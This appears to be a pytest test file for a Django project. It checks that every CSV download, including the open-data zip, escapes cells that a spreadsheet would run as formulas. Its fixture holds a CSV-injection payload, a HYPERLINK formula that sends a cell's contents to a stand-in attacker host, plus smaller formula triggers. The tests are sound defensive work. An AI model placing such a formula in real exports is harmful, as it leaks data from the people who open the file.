"""Every CSV the project writes neutralises text that a spreadsheet would run as a formula."""

import csv
import datetime
import io
import zipfile

import pytest
from django.urls import reverse

from tests.factories import (
    MeetingFactory,
    OrganisationFactory,
    ParticipantFactory,
    PresentationFactory,
    PriorityFactory,
    PriorityUpdateFactory,
    WorkPlanFactory,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
SAFE = "'" + FORMULA


def rows_of(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def cells_of(content):
    return {cell for row in rows_of(content) for cell in row}


@pytest.fixture
def formulas():
    """Records whose names, titles and summaries are formulas, on every download's path."""
    organisation = OrganisationFactory(name=FORMULA, abbreviation="@SUM(1+1)")
    plan = WorkPlanFactory(slug="plan", start_year=2018, end_year=2019)
    priority = PriorityFactory(workplan=plan, title=FORMULA, slug="formula")
    PriorityUpdateFactory(priority=priority, as_of=datetime.date(2018, 6, 1))
    presentation = PresentationFactory(title=FORMULA, summary="-2+3", organisation=organisation)
    ParticipantFactory(forum=presentation.forum, organisation=organisation)
    meeting = MeetingFactory(slug="meeting")
    PresentationFactory(forum=None, meeting=meeting, title=FORMULA, organisation=organisation)
    ParticipantFactory(forum=None, meeting=meeting, organisation=organisation)
    return {"plan": plan, "forum": presentation.forum, "meeting": meeting}


def downloads(formulas):
    forum, meeting = formulas["forum"].slug, formulas["meeting"].slug
    today = datetime.date.today().isoformat()
    return {
        "work plan": reverse("exports:workplan-priorities-csv", args=["plan"]),
        "changes": reverse("exports:workplan-changes-csv", args=["plan"])
        + f"?from=2018-01-01&to={today}",
        "forum presentations": reverse("exports:forum-presentations-csv", args=[forum]),
        "forum participants": reverse("exports:forum-participants-csv", args=[forum]),
        "meeting presentations": reverse("exports:meeting-presentations-csv", args=[meeting]),
        "meeting participants": reverse("exports:meeting-participants-csv", args=[meeting]),
        "API priorities": "/api/v1/priorities/?format=csv",
        "API presentations": "/api/v1/presentations/?format=csv",
        "API organisations": "/api/v1/organisations/?format=csv",
    }


@pytest.mark.parametrize(
    "download",
    [
        "work plan",
        "changes",
        "forum presentations",
        "forum participants",
        "meeting presentations",
        "meeting participants",
        "API priorities",
        "API presentations",
        "API organisations",
    ],
)
def test_it_writes_a_formula_as_text_in_every_download(client, formulas, download):
    response = client.get(downloads(formulas)[download])

    cells = cells_of(response.content)
    assert (response.status_code, SAFE in cells, FORMULA in cells) == (200, True, False)


def test_it_writes_every_formula_as_text_in_the_open_data_bundle(client, formulas):
    response = client.get(reverse("exports:open-data"))

    bundle = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    tables = {
        name: cells_of(bundle.read(name)) for name in bundle.namelist() if name.endswith(".csv")
    }
    assert {name for name, cells in tables.items() if SAFE in cells} >= {
        "organisations.csv",
        "priorities.csv",
        "presentations.csv",
    }
    assert {name for name, cells in tables.items() if FORMULA in cells} == set()
    assert "'@SUM(1+1)" in tables["organisations.csv"]
    assert "'-2+3" in tables["presentations.csv"]


def test_it_leaves_numbers_dates_and_plain_text_as_they_are(client):
    PriorityFactory(title="Plain - text", progress=40, workplan__slug="plan")

    response = client.get(reverse("exports:workplan-priorities-csv", args=["plan"]))

    row = rows_of(response.content)[1]
    assert (row[1], row[3]) == ("Plain - text", "40")
